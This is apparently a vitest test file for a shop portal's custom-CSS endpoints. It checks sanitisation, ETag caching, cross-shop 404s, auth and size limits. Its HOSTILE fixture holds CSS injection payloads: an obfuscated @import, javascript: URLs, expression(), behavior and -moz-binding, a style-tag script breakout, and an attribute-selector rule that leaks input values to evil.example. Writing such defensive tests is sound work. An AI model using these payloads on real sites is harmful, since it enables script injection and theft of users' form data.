import { expect, test } from 'vitest';
import { PortalCustomCss } from '@cartly/db';
import { rest, trpcClient, type TestShop } from '../../test/harness.js';
import { useTwoShops } from '../../test/portal-core-refunds.js';

const env = useTwoShops();

const CSS = (id: string) => `/subscriptions/cp/api/subscription-custom-csses/${id}`;
const ADMIN = '/admin/customer-portal/css';
const stored = (s: TestShop) => env.t.db.orm.em.fork().findOne(PortalCustomCss, { shop: s.shopId });

/** The list, written as attackers write it. */
const HOSTILE = String.raw`@\69 mport url(https://evil.example/steal.css);
.a{background:url(javascript:alert(1))}
.b{background:url("\6a avascript:alert(1)")}
.c{width:expression(alert(1))}
.d{behavior:url(https://evil.example/x.htc)}
.e{-moz-binding:url("https://evil.example/xbl.xml#x")}
input[value^="a"]{background:url(https://evil.example/?k=a)}
.f{content:"</style><script>alert(1)</script>"}
.subscription-card{color:#123456}`;

test('hostile CSS is stripped on save; the answer says what was dropped and why; storefronts get only the survivors', async () => {
  const saved = await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: HOSTILE } });
  expect(saved.status, JSON.stringify(saved.body)).toBe(200);
  const reasons = (saved.body.dropped as { what: string; reason: string; line: number }[]).map((d) => [d.line, d.reason]);
  expect(reasons).toEqual([
    [1, 'import_not_allowed'], [2, 'unparseable'], [3, 'url_not_allowed'], [4, 'function_not_allowed'],
    [5, 'property_not_allowed'], [6, 'property_not_allowed'], [7, 'url_with_attribute_selector'],
  ]);
  expect(saved.body.source).toBe(HOSTILE);
  const css = saved.body.css as string;
  for (const bad of ['import', 'javascript', 'expression', 'behavior', 'binding', 'evil.example', '<']) expect(css).not.toContain(bad);
  expect(css).toContain('.subscription-card{color:#123456}');

  const served = await rest(env.t, 'GET', CSS(env.shop.shopId), { sat: env.shop.sat });
  expect(served.status).toBe(200);
  expect(served.body).toEqual({ shop_id: env.shop.shopId, css, etag: saved.body.etag, updated_at: saved.body.updated_at });
  expect(served.headers.get('etag')).toBe(saved.body.etag);
  expect(served.body).not.toHaveProperty('source');
  // The typed client (the widget) reads the same thing.
  expect(await trpcClient(env.t, { sat: env.shop.sat }).portalCore.css.get.query({ id: env.shop.shopId })).toEqual(served.body);
  expect((await trpcClient(env.t, { bearer: env.shop.adminToken }).portalCore.css.adminGet.query({})).dropped).toHaveLength(7);
});

test('GET answers 304 to a matching If-None-Match, and 200 with a new ETag once the CSS changes', async () => {
  await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: '.x{color:red}' } });
  const first = await rest(env.t, 'GET', CSS(env.shop.shopId), { sat: env.shop.sat });
  const etag = first.headers.get('etag')!;
  expect(first.headers.get('cache-control')).toBe('private, no-cache');

  const again = await rest(env.t, 'GET', CSS(env.shop.shopId), { sat: env.shop.sat, headers: { 'If-None-Match': etag } });
  expect(again.status).toBe(304);
  expect(again.body).toBeUndefined();
  expect(again.headers.get('etag')).toBe(etag);
  expect((await rest(env.t, 'GET', CSS(env.shop.shopId), { sat: env.shop.sat, headers: { 'If-None-Match': `"other", W/${etag}` } })).status).toBe(304);

  await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: '.x{color:blue}' } });
  const changed = await rest(env.t, 'GET', CSS(env.shop.shopId), { sat: env.shop.sat, headers: { 'If-None-Match': etag } });
  expect(changed.status).toBe(200);
  expect(changed.body.css).toBe('.x{color:blue}');
  expect(changed.headers.get('etag')).not.toBe(etag);
});

test('another shop\'s id is 404 (even with a valid ETag), a missing SAT 401, a malformed id 400', async () => {
  expect((await rest(env.t, 'GET', CSS(env.other.shopId), { sat: env.shop.sat })).status).toBe(404);
  const etag = (await rest(env.t, 'GET', CSS(env.other.shopId), { sat: env.other.sat })).headers.get('etag')!;
  expect((await rest(env.t, 'GET', CSS(env.other.shopId), { sat: env.shop.sat, headers: { 'If-None-Match': etag } })).status).toBe(404);
  const missing = await rest(env.t, 'GET', CSS(env.shop.shopId));
  expect(missing.status).toBe(401);
  expect(missing.body.error.code).toBe('UNAUTHENTICATED');
  expect((await rest(env.t, 'GET', CSS('not-a-uuid'), { sat: env.shop.sat })).status).toBe(400);
  expect((await rest(env.t, 'GET', CSS('%E0%A4%A'), { sat: env.shop.sat })).status).toBe(400);
  const extra = await rest(env.t, 'GET', `${CSS(env.shop.shopId)}?shop=x`, { sat: env.shop.sat });
  expect(extra.status).toBe(400);
  expect(extra.body.error.message).toBe('shop: is not a known field');
  await expect(trpcClient(env.t, { sat: env.shop.sat }).portalCore.css.get.query({ id: env.other.shopId })).rejects.toMatchObject({ data: { httpStatus: 404 } });
  // A env.shop that never saved CSS serves an empty sheet, not an error.
  expect((await rest(env.t, 'GET', CSS(env.other.shopId), { sat: env.other.sat })).body).toMatchObject({ css: '', updated_at: null });
});

test('a 2 MB sheet and one just over the limit are refused with 413, and the saved CSS is unchanged', async () => {
  const before = await stored(env.shop);
  const huge = `.a{color:red}${'.b{color:blue}'.repeat(150_000)}`;
  const twoMb = await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: huge } });
  expect(twoMb.status).toBe(413);
  const over = await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: `.a{content:"${'x'.repeat(66_000)}"}` } });
  expect(over.status).toBe(413);
  expect(over.body.error.message).toMatch(/^css: is \d+ bytes; at most 65536/);
  const deep = await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: `${'@media screen{'.repeat(3000)}a{color:red}` } });
  expect(deep.status).toBe(400);
  expect(deep.body.error.message).toBe('css: nests blocks, parentheses or brackets more than 32 levels deep');
  expect(await stored(env.shop)).toMatchObject({ css: before!.css, etag: before!.etag });
});

test('admin scopes and credentials are enforced', async () => {
  expect((await rest(env.t, 'PUT', ADMIN, { sat: env.shop.sat, body: { css: '' } })).status).toBe(401);
  const bad = await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: 5 } });
  expect(bad.status).toBe(400);
  expect(bad.body.error.message).toMatch(/^css:/);
  expect((await rest(env.t, 'PUT', ADMIN, { bearer: env.shop.adminToken, body: { css: '', extra: 1 } })).status).toBe(400);
});
